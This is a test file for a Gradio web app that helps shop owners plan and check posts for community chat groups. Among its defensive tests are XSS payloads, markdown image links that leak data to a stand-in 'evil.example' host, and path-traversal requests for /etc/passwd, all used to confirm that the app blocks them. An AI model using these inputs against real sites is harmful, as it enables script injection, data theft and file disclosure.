"""The web app: built by a function, safe rendering, file access, login, parallel chats."""
import concurrent.futures as cf
import re
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request

import pytest
from conftest import ROOT
from openai_stub import StubOpenAI

from assistant.ui import Handlers, build_app, launch, parse_auth, safe_markdown


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def http_get(url: str) -> tuple[int, str]:
    try:
        with urllib.request.urlopen(url, timeout=10) as r:
            return r.status, r.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode("utf-8", "replace")


def test_import_builds_nothing():
    code = ("import sys; sys.path.insert(0, sys.argv[1]); import app, assistant.ui;"
            "assert 'gradio' not in sys.modules and 'chromadb' not in sys.modules, sorted(m for m in sys.modules if 'grad' in m)")
    r = subprocess.run([sys.executable, "-c", code, str(ROOT)], capture_output=True, text=True, cwd=ROOT)
    assert r.returncode == 0, r.stderr


@pytest.mark.parametrize("raw,forbidden,kept", [
    ("<script>alert(1)</script>你好", "<script>", "你好"),
    ("<img src=x onerror=alert(1)>", "<img", "img"),
    ("看这里 ![x](https://evil.example/leak?d=secret)", "](https://evil", "图片已移除"),
    ("![](http://evil.example/p.png)", "evil.example/p.png)", "图片已移除"),
    ("点 [这里](https://evil.example/?q=1)", "](https://", "这里"),
    ("[ref]: https://evil.example/x\n文本", "[ref]:", "文本"),
    ("访问 https://evil.example/path 看看", " https://evil", "`https://evil.example/path`"),
])
def test_safe_markdown(raw, forbidden, kept):
    out = safe_markdown(raw)
    assert forbidden not in out and kept in out


def test_lint_handler_spans(shared_e5_settings):
    h = Handlers(shared_e5_settings)
    text = "今晚群里发红包,扫码领优惠券"
    spans, verdict = h.lint(text, "目标群(默认)")
    assert "".join(s for s, _ in spans) == text
    labelled = {s: label for s, label in spans if label}
    assert labelled["红包"].startswith("MN001") and "❌" in verdict
    assert h.lint("  ", "目标群(默认)")[1] == "请先粘贴一条帖子。"


def test_lint_batch_txt_csv_and_bad_file(shared_e5_settings, tmp_path):
    h = Handlers(shared_e5_settings)
    txt = tmp_path / "posts.txt"
    txt.write_text("群里发红包\n\n今天打卡第3天\n", encoding="utf-8")
    rows, note = h.lint_batch(str(txt), "目标群(默认)")
    assert [r[2] for r in rows] == ["是", "否"] and "2 条" in note and "红包" in rows[0][3]
    _rows, _note, csv_path = h.lint_batch_view(str(txt), "目标群(默认)")
    assert open(csv_path, encoding="utf-8-sig").read().startswith("序号,帖子")
    c = tmp_path / "posts.csv"
    c.write_text("id,帖子\n1,本群专属折扣码，今晚下单立减20\n2,分享一份读书笔记\n", encoding="utf-8")
    rows, _ = h.lint_batch(str(c), "目标群(默认)")
    assert [r[2] for r in rows] == ["是", "否"]
    bad = tmp_path / "bad.txt"
    bad.write_bytes(b"\xff\xfe\xfa\xfb\x80\x81" * 10)
    rows, note = h.lint_batch(str(bad), "目标群(默认)")
    assert rows == [] and "bad.txt" in note and "编码" in note


ZH_POSTS = "群里发红包\n今天打卡第3天\n"
EN_POSTS = "Giveaway tonight: red packets for everyone in the group!\nDay 3 of our reading challenge, share your page\n"
ZH_FRAME = {"note": "共 2 条", "headers": ["#", "帖子", "需要改写", "原因", "规则"], "flag": ["是", "否"],
            "csv": "序号,帖子", "file": "草稿检查-"}
EN_FRAME = {"note": "2 posts", "headers": ["#", "Post", "Rewrite?", "Why", "Rules"], "flag": ["yes", "no"],
            "csv": "No.,Post", "file": "draft-check-"}


# (page language, the file's posts) -> the words around the results: the page's language, like every other tab; an
# API call that names no language gets the posts' own (as the single-draft check reads in the post's language).
@pytest.mark.parametrize("page, posts, frame", [
    ("English", EN_POSTS, EN_FRAME),
    ("English", ZH_POSTS, EN_FRAME),
    ("中文", ZH_POSTS, ZH_FRAME),
    ("中文", EN_POSTS, ZH_FRAME),
    (None, EN_POSTS, EN_FRAME),
    (None, ZH_POSTS, ZH_FRAME),
])
def test_the_batch_check_speaks_the_page_language(shared_e5_settings, tmp_path, page, posts, frame):
    from pathlib import Path

    h = Handlers(shared_e5_settings)
    txt = tmp_path / "posts.txt"
    txt.write_text(posts, encoding="utf-8")
    args = (str(txt), "目标群(默认)") + ((page,) if page else ())
    rows, note, csv_path = h.lint_batch_view(*args)
    assert frame["note"] in note, note
    assert [r[2] for r in rows] == frame["flag"]
    assert page is None or h.batch_headers(page) == frame["headers"]  # the page's table (the API gives rows only)
    assert open(csv_path, encoding="utf-8-sig").read().startswith(frame["csv"])
    assert Path(csv_path).name.startswith(frame["file"])


@pytest.mark.parametrize("page, says", [("English", ["Please upload"]), ("中文", ["请上传"])])
def test_the_batch_check_asks_for_a_file_in_the_page_language(shared_e5_settings, page, says):
    rows, note, csv_path = Handlers(shared_e5_settings).lint_batch_view(None, "目标群(默认)", page)
    assert rows == [] and csv_path is None and all(s in note for s in says)


@pytest.mark.parametrize("page, says", [("English", ["bad.txt", "UTF-8", "encoding"]), ("中文", ["bad.txt", "编码"])])
def test_an_unreadable_batch_file_is_said_in_the_page_language(shared_e5_settings, tmp_path, page, says):
    bad = tmp_path / "bad.txt"
    bad.write_bytes(b"\xff\xfe\xfa\xfb\x80\x81" * 10)
    rows, note, _ = Handlers(shared_e5_settings).lint_batch_view(str(bad), "目标群(默认)", page)
    assert rows == [] and all(s in note for s in says), note


@pytest.mark.parametrize("fn, args, headers, flag", [
    ("run_batch", ("{file}", "目标群(默认)"), ZH_FRAME["headers"], ["是", "否"]),  # the API's two inputs, as before
    ("run_batch", ("{file}", "目标群(默认)", "English"), EN_FRAME["headers"], ["yes", "no"]),
    ("relabel_batch", ("English", "{file}", "目标群(默认)"), EN_FRAME["headers"], ["yes", "no"]),
    ("relabel_batch", ("English", None, "目标群(默认)"), EN_FRAME["headers"], []),  # nothing uploaded: headers only
    ("relabel_batch", ("中文", "{file}", "目标群(默认)"), ZH_FRAME["headers"], ["是", "否"]),
])
def test_the_page_batch_table_follows_the_language_switch(shared_e5_settings, tmp_path, fn, args, headers, flag):
    demo = build_app(shared_e5_settings)
    txt = tmp_path / "posts.txt"
    txt.write_text(ZH_POSTS, encoding="utf-8")
    found = next(f.fn for f in (demo.fns.values() if isinstance(demo.fns, dict) else demo.fns)
                 if getattr(f.fn, "__name__", "") == fn)
    table, _note, _csv = found(*(str(txt) if a == "{file}" else a for a in args))
    assert table["headers"] == headers and [r[2] for r in table["data"]] == flag


def test_calendar_handler(shared_e5_settings):
    h = Handlers(shared_e5_settings)
    rows, md, csv_path, ics, info = h.calendar("社区健身房", "", "2026-11-23", 7)
    assert len(rows) == 7 and rows[0][:3] == ["2026-11-23", "周一", "分享"]
    assert open(ics, "rb").read().startswith(b"BEGIN:VCALENDAR") and "60天" in info
    assert "本周群帖-社区健身房-11月23日" in ics
    rows, *_ = h.calendar("社区健身房", "", "2026/11/23", 7)
    assert rows[0][0] == "2026-11-23"
    *_, info = h.calendar("社区健身房", "", "23/13/2026", 7)
    assert "看不懂日期" in info
    *_, info = h.calendar("  ", "", "", 7)
    assert "描述你的生意" in info


def test_chat_handler_streams_and_keeps_history(shared_e5_settings):
    h = Handlers(shared_e5_settings)
    states = list(h.chat("超级用户群怎么筛选成员?", []))
    history, box = states[-1]
    assert len(states) > 2 and box == ""
    assert history[0] == {"role": "user", "content": "超级用户群怎么筛选成员?"}
    assert "<summary>查看出处(" in history[-1]["content"] and ".md" not in history[-1]["content"]
    history2, _ = list(h.chat("那人员配比呢?", history))[-1]
    assert len(history2) == 4 and "30%" in history2[-1]["content"]


def test_failed_model_keeps_the_question_in_the_box(shared_e5_settings):
    url = f"http://127.0.0.1:{free_port()}/v1"  # nothing listens there
    h = Handlers(shared_e5_settings.with_(openai_api_key="k", openai_base_url=url, model_retries=0, model_timeout=3))
    history, box = list(h.chat("怎么定群规?", []))[-1]
    assert box == "怎么定群规?" and "没能得到回答" in history[-1]["content"]


def test_parse_auth():
    assert parse_auth("admin:s3cret") == ("admin", "s3cret")
    assert parse_auth(None) is None
    with pytest.raises(ValueError):
        parse_auth("nocolon")


@pytest.fixture
def served(e5_settings):
    port = free_port()
    demo = launch(e5_settings, host="127.0.0.1", port=port, prevent_thread_lock=True)
    yield f"http://127.0.0.1:{port}"
    demo.close()


def test_no_file_access_beyond_what_is_served(served, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-VALUE", encoding="utf-8")
    for path in ["../../../../etc/passwd", "/etc/passwd", "..%2F..%2F..%2Fetc%2Fpasswd", str(secret),
                 str(ROOT / "pyproject.toml")]:
        code, body = http_get(f"{served}/gradio_api/file={path}")
        assert code in (400, 403, 404), (path, code)
        assert "root:" not in body and "TOP-SECRET-VALUE" not in body and "[project]" not in body


def test_serve_rebuilds_a_damaged_index_and_says_so_in_one_line(hash_settings, capsys):
    from assistant.store import Store, _close_client

    Store(hash_settings).ingest()
    gen = hash_settings.store_dir / Store(hash_settings).current_generation()
    _close_client(gen)
    (gen / "chroma.sqlite3").write_bytes(b"not a database")  # a damaged index, as a crash or a bad disk leaves it
    port = free_port()
    demo = launch(hash_settings, host="127.0.0.1", port=port, prevent_thread_lock=True)
    try:
        lines = capsys.readouterr().out.splitlines()
        damaged = [line for line in lines if "已损坏" in line]
        assert len(damaged) == 1 and str(gen / "chroma.sqlite3") in damaged[0] and "重新建立" in damaged[0], lines
        assert any(line.startswith("索引完成") for line in lines)
        assert Store(hash_settings).damage() is None and Store(hash_settings).count() > 0
        assert http_get(f"http://127.0.0.1:{port}/config")[0] == 200
    finally:
        demo.close()


def test_login_required_when_configured(e5_settings):
    port = free_port()
    demo = launch(e5_settings.with_(auth="admin:s3cret"), port=port, prevent_thread_lock=True)
    try:
        code, body = http_get(f"http://127.0.0.1:{port}/config")
        assert code in (401, 403) or '"auth_required":true' in body.replace(" ", "")
        data = b"username=admin&password=wrong"
        req = urllib.request.Request(f"http://127.0.0.1:{port}/login", data=data, method="POST")
        with pytest.raises(urllib.error.HTTPError):
            urllib.request.urlopen(req, timeout=10)
        req = urllib.request.Request(f"http://127.0.0.1:{port}/login", data=b"username=admin&password=s3cret",
                                     method="POST")
        assert urllib.request.urlopen(req, timeout=10).status == 200
    finally:
        demo.close()


def test_five_parallel_streamed_chats(e5_settings):
    """Five chats at once finish in about the time of one, each seeing only its own answer."""
    from gradio_client import Client

    with StubOpenAI() as stub:
        stub.script = [{"echo": True, "delay": 0.15}]
        settings = e5_settings.with_(openai_api_key="k", openai_base_url=stub.base_url, model="stub", model_timeout=20)
        port = free_port()
        demo = launch(settings, port=port, prevent_thread_lock=True)
        try:
            client = Client(f"http://127.0.0.1:{port}/", verbose=False)
            api = next(name for name in client.view_api(return_format="dict")["named_endpoints"] if "chat" in name)

            def one(i):
                t = time.perf_counter()
                history, _ = client.predict(f"第{i}号问题:怎样让群更活跃", [], api_name=api)
                content = history[-1]["content"]
                if isinstance(content, list):  # Gradio 6 gives message content as parts
                    content = "".join(p.get("text", "") if isinstance(p, dict) else str(p) for p in content)
                return i, time.perf_counter() - t, content

            _, single, _ = one(0)
            t = time.perf_counter()
            with cf.ThreadPoolExecutor(5) as ex:
                results = list(ex.map(one, range(1, 6)))
            total = time.perf_counter() - t
            for i, _, answer in results:
                assert f"第{i}号问题" in answer.replace("\n", "")
                assert all(f"第{j}号问题" not in answer for j in range(1, 6) if j != i)
            assert total < single * 2.5, (single, total)
        finally:
            demo.close()


def test_lint_groups_repeats_and_notices_long_drafts(shared_e5_settings):
    h = Handlers(shared_e5_settings)
    text = "今天练了半小时。马上下单!" * 200
    spans, verdict = h.lint(text, "目标群(默认)")
    assert "出现 200 次" in verdict and verdict.count("「下单」") == 1
    assert "批量检查" in verdict  # over LONG_DRAFT characters
    first = verdict.splitlines()[0]
    assert "MN" not in first and "风险分" not in verdict  # plain words lead; codes are small print


def test_status_line_in_plain_words(shared_e5_settings):
    status = Handlers(shared_e5_settings).status()
    assert "离线版" in status and "5 篇社群运营文章" in status and "模式" not in status


def test_chat_knows_the_shop_and_gives_posts(shared_e5_settings):
    h = Handlers(shared_e5_settings)
    *_, (history, _box) = h.chat("那第一周具体发什么?", [], shop="社区里的面包店,顾客多是附近的宝妈")
    answer = history[-1]["content"]
    assert "【" in answer and any(w in answer for w in ("面包", "烘焙", "吐司"))


def test_page_api_keeps_its_earlier_shape(shared_e5_settings):
    """Scripts call the page's endpoints: /goal(business, group) still works, /calendar's first five outputs
    keep their places, new things are optional inputs or extra outputs at the end."""
    info = build_app(shared_e5_settings).get_api_info()["named_endpoints"]
    goal = info["/goal"]["parameters"]
    assert [p["parameter_name"] for p in goal[:2]] == ["business", "group_choice"]
    assert all(p["parameter_has_default"] for p in goal[2:])
    cal = info["/calendar"]["parameters"]
    assert [p["parameter_name"] for p in cal[:4]] == ["business", "goal", "start", "days"]
    assert all(p["parameter_has_default"] for p in cal[4:])
    assert [p["parameter_name"] for p in cal[4:]] == ["launch", "group_choice"]
    assert len(info["/calendar"]["returns"]) >= 5 and "/lint_batch" in info and "/chat" in info


def test_goal_page_gives_short_sections_and_a_markdown_file(shared_e5_settings):
    h = Handlers(shared_e5_settings)
    md, goal, path = h.goal_page("街角的自行车修理铺,客人多是附近骑车上班的人", "自动判断")
    assert goal and md.count("<details") == 3 and "<details open><summary>五个关键" in md
    assert path.endswith(".md") and "建群方案-街角的自行车修理铺" in path
    text = open(path, encoding="utf-8").read()
    assert text.startswith(f"# 共同目标:{goal}") and "## 要避开的坑" in text
    assert h.goal_page("   ", "自动判断")[1:] == ("", None)  # bad input: a clear message, no file


def test_chat_sets_apart_what_is_not_the_answer(shared_e5_settings):
    h = Handlers(shared_e5_settings)
    *_, (history, _box) = list(h.chat("帮我写一条欢迎新人的群帖,我开的是一家花店", []))
    answer = history[-1]["content"]
    # The offline notice and the draft check sit in their own blocks, left out when the answer is copied.
    assert answer.startswith('<div class="answer-extra">(离线模式')
    assert "查看出处" in answer and answer.count('class="answer-extra"') >= 1


def test_every_language_has_every_word_of_the_page():
    from assistant.ui_text import TEXT

    assert set(TEXT["en"]) == set(TEXT["zh"])
    for key, zh in TEXT["zh"].items():
        en = TEXT["en"][key]
        assert type(en) is type(zh), key
        if isinstance(zh, list):
            assert len(en) == len(zh), key


def test_switching_the_page_to_english_changes_its_words(shared_e5_settings):
    import gradio as gr

    from assistant.ui import _switched

    assert _switched(gr, "send", gr.Button("发送"), "English")["value"] == "Send"
    shop = _switched(gr, "shop", gr.Textbox(), "English")
    assert shop["label"] == "Your shop" and "bakery" in shop["placeholder"]
    group = _switched(gr, "gtype", gr.Dropdown(["自动判断"]), "English")
    assert ("Decide for me", "自动判断") in group["choices"]  # shown in English, read as before
    assert "English" not in Handlers(shared_e5_settings).status("zh")
    assert Handlers(shared_e5_settings).status("en").count("Offline version") == 1


def test_an_english_plan_reads_in_english(shared_e5_settings):
    md, goal, path = Handlers(shared_e5_settings).goal_page("a small bakery in our neighbourhood, customers are young parents",
                                                            "自动判断")
    assert md.startswith("### Shared goal: ") and "Five keys" in md
    assert not re.search(r"[\u4e00-\u9fff]", md), md  # the sources too: English names and glosses
    assert path.endswith(".md") and "group-plan-a-small-bakery" in path


@pytest.mark.parametrize("post, head, how, severity", [
    ("今晚群里发红包,扫码领优惠券", "❌ **这条会让群滑向广告群", "怎么改:", "错误"),
    ("Big sale today! 50% off all memberships, DM me to buy", "❌ **This would turn the group into an ad channel",
     "How to fix: ", "error"),
])
def test_the_verdict_reads_in_the_posts_language(shared_e5_settings, post, head, how, severity):
    spans, verdict = Handlers(shared_e5_settings).lint(post, "目标群(默认)")
    assert verdict.startswith(head) and how in verdict
    assert any(label and label.endswith(severity) for _, label in spans)


@pytest.mark.parametrize("business, headers", [
    ("社区健身房", ["日期", "星期", "类型", "话题", "群帖"]),
    ("a small gym near the office park", ["Date", "Day", "Type", "Topic", "Post"]),
])
def test_the_week_table_speaks_the_weeks_language(shared_e5_settings, business, headers):
    h = Handlers(shared_e5_settings)
    assert h.calendar_headers(business) == headers
    rows, *_rest, info = h.calendar_view(business, "", "2026-12-07", 2)
    english = headers[0] == "Date"
    assert rows[0][2] == ("Sharing" if english else "分享") and info.startswith("**Shared goal" if english else "**共同目标")


def test_a_past_start_date_is_noted_on_the_page(shared_e5_settings):
    h = Handlers(shared_e5_settings)
    *_rest, info = h.calendar_view("社区花店", "", "2020-01-06", 1)
    assert "已经过去" in info and "年份" in info
    *_rest, info = h.calendar_view("社区花店", "", "下周一", 1)
    assert "已经过去" not in info


def test_lint_page_caps_what_it_marks_and_lists(shared_e5_settings):
    # A phrase pasted thousands of times: a bounded number of marks, with a note; the text itself is all there.
    h = Handlers(shared_e5_settings)
    text = "限时秒杀!" * 5000
    spans, verdict = h.lint(text, "目标群(默认)")
    assert "".join(s for s, _ in spans) == text
    assert sum(1 for _, label in spans if label) <= 200 and "一共 5000 处" in verdict
    assert verdict.count("「限时秒杀」") == 1 and "出现 5000 次" in verdict
    # Many different phrases: the verdict lists a bounded number and counts the rest.
    text = "".join(f"立减{i}元," for i in range(1, 40))
    _spans, verdict = h.lint(text, "目标群(默认)")
    assert verdict.count("\n- ") == 20 and "另有 58 种说法没有列出" in verdict
    _spans, verdict = h.lint("Everything 20% off! " * 300, "目标群(默认)")
    assert "more phrases" not in verdict and "of the 300 places are marked" in verdict


GYM = "社区健身房,会员多是附近上班族"


@pytest.mark.parametrize("choice, rows, first, says, in_posts", [
    # The 周历 tab's 群的类型, as on the 目标 tab; the week follows the kind chosen, and the info line says so.
    ("快闪群", 7, "欢迎", "按快闪群安排", "这个群明天解散"),
    ("新用户群", 10, "分享", "按新用户群安排", "【新手上手】"),
    ("超级用户群", 10, "分享", "按超级用户群安排", "本群的权益照常"),
    ("交付群", 10, "分享", "按交付群安排", "【本周交付】"),
])
def test_the_calendar_tab_follows_the_kind_of_group_chosen(shared_e5_settings, choice, rows, first, says, in_posts):
    h = Handlers(shared_e5_settings)
    table, cards, md, _csv, _ics, info = h.calendar_view(GYM, "60天,改变身形", "2026-12-07", 10, False, choice)
    assert len(table) == rows and table[0][2] == first
    assert says in info and in_posts in cards
    assert says in open(md, encoding="utf-8").read()  # the downloads say it too
    if choice == "快闪群":
        assert "排成了 7 天" in info


@pytest.mark.parametrize("choice", ["自动判断", "目标群(默认)", "", None])
def test_the_calendar_tab_without_a_kind_is_as_before(shared_e5_settings, choice):
    h = Handlers(shared_e5_settings)
    before = h.calendar_view(GYM, "60天,改变身形", "2026-12-07", 3, True)
    now = h.calendar_view(GYM, "60天,改变身形", "2026-12-07", 3, True, choice)
    assert now[0] == before[0] and now[1] == before[1] and now[-1] == before[-1]
    assert not any(f"按{g}安排" in now[-1] for g in ("快闪群", "新用户群", "超级用户群", "交付群"))
    assert h.calendar(GYM, "60天,改变身形", "2026-12-07", 3, choice)[0] == h.calendar(GYM, "60天,改变身形", "2026-12-07", 3)[0]


@pytest.mark.parametrize("choice, says", [("粉丝群", "未知的群类型 '粉丝群'"), ("vip", "可选:goal(目标群)")])
def test_an_unknown_kind_from_a_script_is_a_message_on_the_page(shared_e5_settings, choice, says):
    rows, cards, md, csv_path, ics, info = Handlers(shared_e5_settings).calendar_view(GYM, "", "", 7, False, choice)
    assert (rows, cards, md, csv_path, ics) == ([], "", None, None, None) and says in info


def test_the_calendar_tabs_kind_switches_language_with_the_page():
    import gradio as gr

    from assistant.ui import _switched

    group = _switched(gr, "c_gtype", gr.Dropdown(["自动判断"]), "English")
    assert group["label"].startswith("Kind of group")
    assert ("Decide for me", "自动判断") in group["choices"] and ("Delivery group (paid service)", "交付群") in group["choices"]


@pytest.mark.parametrize("goal_choice, week_choice", [
    ("自动判断", "自动判断"), (None, "自动判断"), ("交付群", "交付群"), ("超级用户群", "超级用户群"), ("新用户群", "新用户群"),
    ("快闪群", "自动判断"),  # a flash group's plan says its goal is for a separate long-running group
])
def test_the_goals_kind_of_group_carries_over_to_its_week(goal_choice, week_choice):
    from assistant.ui import week_kind

    assert week_kind(goal_choice) == week_choice


_CITE = {"source": "000_f5b7babd23f543bd.md", "title": "如何做好社群运营不可或缺的两点", "heading": "4.小结一下",
         "excerpt": "社会规范相比市场规范显得异常脆弱。"}
_FINDING = {"code": "MN001", "severity": "error", "excerpt": "Giveaway", "message": "m", "suggestion": "s"}


@pytest.mark.parametrize("lang, shown, hidden", [
    ("en", ["Sources (1)", "“How to run a community: two essentials” (an article in Chinese) › 4. In short",
            "Social norms are fragile"], ["查看出处", "《", "脆弱"]),
    ("zh", ["查看出处(1)", "《如何做好社群运营不可或缺的两点》 › 4.小结一下", "社会规范相比市场规范显得异常脆弱。"], ["Sources"]),
])
def test_the_chats_sources_speak_the_questions_language(lang, shown, hidden):
    from assistant.schemas import Citation
    from assistant.ui_handlers import _sources_md

    md = _sources_md([Citation(**_CITE)], "", lang)
    assert all(x in md for x in shown) and not any(x in md for x in hidden), md


@pytest.mark.parametrize("lang, shown, hidden", [
    ("en", ["**Draft check**", "“Giveaway”: m. Suggestion: s"], ["草稿检查", "建议"]),
    ("zh", ["**草稿检查**", "建议:s"], ["Draft check"]),
])
def test_the_chats_draft_check_speaks_the_questions_language(lang, shown, hidden):
    from assistant.ui_handlers import _findings_md

    md = _findings_md([_FINDING], lang)
    assert all(x in md for x in shown) and not any(x in md for x in hidden), md


@pytest.mark.parametrize("business, weekday, head", [
    ("Independent bike repair shop in Manchester, UK", "Mon", "#### Dec 7 Mon · "),
    ("社区健身房,会员是上班族", "周一", "#### 12月7日 周一 · "),
])
def test_the_day_cards_date_speaks_the_weeks_language(business, weekday, head):
    from assistant.schemas import Calendar, DayPlan
    from assistant.ui_handlers import day_cards

    day = DayPlan(date="2026-12-07", weekday=weekday, type="分享", topic="t", post="p", why="w")
    assert day_cards(Calendar(business=business, goal="g", days=[day])).startswith(head)


def test_the_page_checks_and_rewrites_drafts_as_the_owners_own(shared_e5_settings, clearing_model, tmp_path):
    """The draft box, the batch check and the rewrite read the text as the owner's own draft (voice="owner"): a lone
    strong term stays flagged where a model unsure of it (and clearing whatever it may) would let a member's pass."""
    from assistant.guard import lint_post

    clearing_model(0.3)
    draft = "周五晚上抽奖"
    assert not lint_post(draft).flagged and lint_post(draft, voice="owner").flagged
    h = Handlers(shared_e5_settings)
    spans, verdict = h.lint(draft, "目标群(默认)")
    assert "抽奖" in "".join(text for text, label in spans if label) and "❌" in verdict
    posts = tmp_path / "posts.txt"
    posts.write_text(f"{draft}\n今天打卡第3天\n", encoding="utf-8")
    rows, _note = h.lint_batch(str(posts), "目标群(默认)")
    assert [r[2] for r in rows] == ["是", "否"]
    assert "抽奖" not in h.rewrite(draft, "目标群(默认)")
